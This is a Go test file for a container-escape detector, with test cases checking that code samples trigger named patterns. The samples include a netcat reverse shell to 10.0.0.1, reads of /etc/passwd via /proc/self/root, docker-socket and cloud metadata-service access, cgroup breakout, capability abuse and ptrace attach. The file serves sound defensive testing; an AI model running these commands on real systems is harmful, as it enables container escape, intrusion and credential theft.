package monitor

import (
	"testing"

	"github.com/rs/zerolog"
)

func TestAnalyzeCode(t *testing.T) {
	d := NewEscapeDetector(zerolog.Nop())

	tests := []struct {
		name         string
		code         string
		wantMinCount int // minimum number of detections
		wantPattern  string
	}{
		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, 1, "proc_self_access"},
		{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, 1, "container_breakout"},
		{"docker socket", `cat /var/run/docker.sock`, 1, "host_mount_access"},
		{"dirty_cow", `exploit = dirty_cow_payload()`, 1, "kernel_exploit"},
		{"metadata service", `curl 169.254.169.254/latest/meta-data/`, 1, "metadata_service"},
		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
		{"cap_sys_admin", `capsh --caps="cap_sys_admin+eip"`, 1, "capability_abuse"},
		{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, 1, "ptrace_attempt"},
		{"symlink race", `ln -s /proc/self/ns /tmp/escape`, 1, "symlink_race"},
		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, 1, "crypto_miner"},
		{"clean code", `print("hello world")`, 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeCode("env-test", tt.code)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantPattern != "" {
				found := false
				for _, det := range dets {
					if det.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in detections: %v", tt.wantPattern, dets)
				}
			}
		})
	}
}

func TestDetectionLineNumbers(t *testing.T) {
	d := NewEscapeDetector(zerolog.Nop())

	code := "print('hi')\nopen('/proc/self/maps')\nprint('bye')\n"
	dets := d.AnalyzeCode("env-test", code)
	if len(dets) != 1 {
		t.Fatalf("got %d detections, want 1", len(dets))
	}
	if dets[0].Line != 2 {
		t.Errorf("Line = %d, want 2", dets[0].Line)
	}
	if dets[0].Severity != SeverityHigh {
		t.Errorf("Severity = %v, want high", dets[0].Severity)
	}
}

func TestSeverityString(t *testing.T) {
	tests := []struct {
		sev  Severity
		want string
	}{
		{SeverityLow, "low"},
		{SeverityMedium, "medium"},
		{SeverityHigh, "high"},
		{SeverityCritical, "critical"},
		{Severity(99), "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := tt.sev.String(); got != tt.want {
				t.Errorf("Severity(%d).String() = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}
